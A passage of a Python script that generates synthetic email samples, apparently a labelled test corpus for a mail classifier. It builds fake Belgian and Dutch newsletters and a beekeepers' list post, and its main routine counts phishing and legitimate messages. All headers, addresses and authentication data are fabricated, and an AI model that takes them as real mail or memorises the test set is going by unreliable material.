def b_brevo_boutique_fr():
    seed, when = "brevo-boutique", T(2025, 5, 8, 9, 45, 12)
    rcpt = "m.renard@skynet.be"
    dom = "lafromagerie-namur.be"
    hop = Hop(ip="77.32.148.21", helo=f"s{digits(seed, 2)}-148.sendinblue.com", mailfrom=f"bounces-{hx(seed + 'b', 12)}@sib.{dom}",
              dkim_res="pass", dkim_d=dom, dkim_s="brevo1", dmarc="pass", hfrom=dom, policy="none")
    t = [f"https://{alnum(seed + 'r', 6).lower()}.r.sp1-brevo.net/mk/cl/f/sh/{alnum(seed + 'cl' + str(i), 40)}" for i in range(4)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#7a4a1e;\">Les fromages de printemps sont arriv&eacute;s</p>"
        "<p>Bonjour, cette semaine en boutique : ch&egrave;vre frais de la Gaume, Herve doux et notre s&eacute;lection de "
        "tommes d&#39;alpage. D&eacute;gustation samedi de 10h &agrave; 13h.</p>" + button(t[0], "Commander en ligne", "#7a4a1e") +
        f"<p><a href=\"{t[1]}\">Nos horaires</a> &middot; <a href=\"{t[2]}\">Plateaux pour la f&ecirc;te des m&egrave;res</a></p>",
        footer=f"La Fromagerie de Namur, Rue de Fer 12, 5000 Namur. <a href=\"{t[3]}\">Se d&eacute;sinscrire</a>"), "Newsletter", "fr")
    plain = ("Les fromages de printemps sont arrivés\n\nBonjour, cette semaine en boutique : chèvre frais de la Gaume, Herve "
             f"doux.\nDégustation samedi de 10h à 13h.\n\nCommander en ligne : {t[0]}\nSe désinscrire : {t[3]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop,
        sig=headers(dkim(dom, "brevo1", seed), dkim("sendinblue.com", "mail", seed + "sib")),
        core=[f"From: {addr('La Fromagerie de Namur', 'bonjour@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('🧀 Les fromages de printemps sont arrivés')}", f"Date: {rfc(when)}",
              f"Message-Id: <{hx(seed, 16)}.{digits(seed + 'm', 10)}@smtp-relay.mailin.fr>", "X-Mailer: Sendinblue",
              f"X-Mailin-EID: {urlsafe(seed + 'eid', 40)}", f"X-sib-id: {urlsafe(seed + 'sib', 60)}",
              f"List-Unsubscribe: <{t[3]}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
              "X-CSA-Complaints: csa-complaints@eco.de"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "brevo-fromagerie-newsletter", "A Walloon cheese shop's French newsletter sent through Brevo "
        "(shop's own DKIM, sp1-brevo.net tracking links, unsubscribe headers).", raw)


@msg
def b_spotler_natuurmonumenten():
    seed, when = "spotler-nm", T(2024, 12, 19, 12, 0, 45)
    rcpt = "familie.smit@ziggo.nl"
    hop = Hop(ip="185.71.64.33", helo="mail33.mailplus.nl", mailfrom=f"bounce-{hx(seed + 'b', 14)}@bounce.mailplus.nl",
              dkim_res="pass", dkim_d="natuurmonumenten.nl", dkim_s="spotler", dmarc="pass", hfrom="natuurmonumenten.nl",
              policy="quarantine")
    t = [f"https://natuurmonumenten.m16.mailplus.nl/genericservice/code/servlet/React?command=redirect&amp;"
         f"encId={alnum(seed + 'e' + str(i), 20)}&amp;checksum={hx(seed + 'cs' + str(i), 10)}" for i in range(3)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#3a6b35;\">Winterwandelen in de natuur</p>"
        "<p>Beste natuurliefhebber, de feestdagen komen eraan. Ontdek onze mooiste winterwandelingen, van de Veluwe tot het "
        "Naardermeer, en doe mee met de wintervogeltelling.</p>" + button(t[0], "Bekijk de wandelingen", "#3a6b35") +
        f"<p>Bedankt voor je steun als lid in 2024!</p>",
        footer=f"Natuurmonumenten, Postbus 9955, 1243 ZS 's-Graveland. <a href=\"{t[1]}\">Afmelden</a> &middot; "
               f"<a href=\"{t[2]}\">Gegevens wijzigen</a>"), "Natuurmonumenten")
    plain = ("Winterwandelen in de natuur\n\nBeste natuurliefhebber, ontdek onze mooiste winterwandelingen.\n\n"
             f"Bekijk de wandelingen: {t[0].replace('&amp;', '&')}\nAfmelden: {t[1].replace('&amp;', '&')}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop, sig=dkim("natuurmonumenten.nl", "spotler", seed),
        core=[f"From: {addr('Natuurmonumenten', 'nieuwsbrief@natuurmonumenten.nl')}", f"To: {rcpt}",
              f"Subject: {enc('Winterwandelen: de mooiste routes voor de feestdagen')}", f"Date: {rfc(when)}",
              f"Message-ID: <{digits(seed, 12)}.{hx(seed + 'm', 12)}@mailplus.nl>",
              f"List-Unsubscribe: <{t[1].replace('&amp;', '&')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
              "X-Mailer: Spotler"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "spotler-natuurmonumenten", "Natuurmonumenten member newsletter sent through Spotler (MailPlus), "
        "DKIM of natuurmonumenten.nl, redirect links on the ESP's tracking host.", raw)


@msg
def b_mailman_imkers():
    seed, when = "mailman-imkers", T(2025, 4, 2, 21, 7, 33)
    rcpt = "griet.desmet@telenet.be"
    listdom = "lists.imkers-oostvlaanderen.be"
    poster = "luc.de.wilde@telenet.be"
    hop = Hop(ip="87.98.229.18", helo=f"mail.{listdom}", mailfrom=f"imkers-bounces+griet.desmet=telenet.be@{listdom}",
              dkim_res="pass", dkim_d=listdom, dkim_s="mm", dmarc="pass", hfrom=listdom, policy="none")
    plain = ("Beste imkers,\n\nDe eerste zwermen zijn gemeld in Merelbeke en Lochristi. Wie een zwerm ziet: meld hem bij de\n"
             "zwermcoördinator (0472 11 23 58), niet zelf proberen te scheppen als je er geen ervaring mee hebt.\n\n"
             "Volgende praktijkles aan de bijenstal in Melle: zaterdag 12 april om 14 uur. Sluier meebrengen.\n\n"
             "Groetjes,\nLuc\n\n_______________________________________________\nImkers mailing list -- "
             f"imkers@{listdom}\nTo unsubscribe send an email to imkers-leave@{listdom}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop,
        hops=[rcv("mail-out.telenet.be (andre.telenet-ops.be [195.130.132.48])", f"mail.{listdom} (Postfix)",
                  when - timedelta(seconds=30), "ESMTPS", HX(seed + 'pf', 10), for_=f"imkers@{listdom}")],
        sig=dkim(listdom, "mm", seed),
        core=[f"From: {addr('Luc De Wilde via Imkers', 'imkers@' + listdom)}", f"Reply-To: {addr('Luc De Wilde', poster)}",
              f"To: imkers@{listdom}", f"Subject: {enc('[Imkers] Zwermen gemeld + praktijkles 12 april')}",
              f"Date: {rfc(when - timedelta(seconds=35))}", f"Message-ID: <{hx(seed, 16)}@telenet.be>",
              "User-Agent: Mozilla Thunderbird", "Content-Language: nl-BE",
              f"Message-ID-Hash: {alnum(seed + 'mh', 32).upper()}", f"X-Message-ID-Hash: {alnum(seed + 'mh', 32).upper()}",
              f"X-MailFrom: {poster}", "X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; emergency; loop; "
              "banned-address;\n member-moderation; header-match-imkers.lists.imkers-oostvlaanderen.be-0",
              "X-Mailman-Version: 3.3.9", "Precedence: list", f"List-Id: <imkers.{listdom}>",
              f"Archived-At: <https://{listdom}/hyperkitty/list/imkers@{listdom}/message/{alnum(seed + 'mh', 32).upper()}/>",
              f"List-Archive: <https://{listdom}/hyperkitty/list/imkers@{listdom}/>", f"List-Help: <mailto:imkers-request@{listdom}?subject=help>",
              f"List-Owner: <mailto:imkers-owner@{listdom}>", f"List-Post: <mailto:imkers@{listdom}>",
              f"List-Subscribe: <mailto:imkers-join@{listdom}>", f"List-Unsubscribe: <mailto:imkers-leave@{listdom}>"]),
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="UTF-8"; format=flowed'))
    add("bulk", "bulk", "mailman-imkers-lijst", "A Flemish beekeepers' Mailman 3 list post (From rewritten to the list, "
        "Reply-To the member, list headers), plain text, no links besides the archive.", raw)


# ===========================================================================
# main
# ===========================================================================

# "file stem" -> category folder to write it to instead (filled by the maintainer after the first scan)
# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# transactional notices from brands' bulk senders are bulk mail.
REFILED: dict[str, str] = {
    "b29-legit-ing-nieuw-bericht": "bulk",
    "b29-legit-mijnoverheid-berichtenbox": "bulk",
    "b29-legit-postnl-bezorgmoment": "bulk",
    "b29-legit-bpost-livraison-aujourdhui": "bulk",
    "b29-legit-eneco-jaarnota-teruggave": "bulk",
    "b29-legit-telenet-factuur-juni": "bulk",
    "b29-legit-docusign-huurovereenkomst": "bulk",
    "b29-legit-sharepoint-kasstaten-accountant": "bulk",
    "b29-legit-marktplaats-nieuw-bericht": "bulk",
    "b29-legit-post-lu-facture-telecom": "bulk",
    "b29-legit-kbc-nieuwe-kaart": "bulk",
}


def main() -> None:
    for old in glob.glob(os.path.join(MAIL, "*", "b29-*.eml")):
        os.remove(old)
    for build in BUILDERS:
        build()
    seen = set()
    manifest = []
    counts: dict[str, int] = {}
    for cat, kind, slug, description, raw in MESSAGES:
        stem = f"b29-{kind}-{slug}"
        assert stem not in seen, stem
        seen.add(stem)
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        os.makedirs(os.path.join(MAIL, folder), exist_ok=True)
        with open(os.path.join(MAIL, folder, stem + ".eml"), "wb") as handle:
            handle.write(raw)
        assert "\n" not in description and "|" not in description, stem
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
    with open(MANIFEST, "w", encoding="utf-8") as handle:
        handle.write("\n".join(manifest) + "\n")
    attacks = sum(1 for m in MESSAGES if m[1] == "phish")
    legit = sum(1 for m in MESSAGES if m[1] in ("legit", "bulk"))
    for folder in sorted(counts):
        print(f"{folder:10s} {counts[folder]}")
    print(f"attacks {attacks}, legitimate {legit}, total {len(MESSAGES)}")
    assert attacks == 50 and legit == 25, (attacks, legit)


if __name__ == "__main__":
    main()
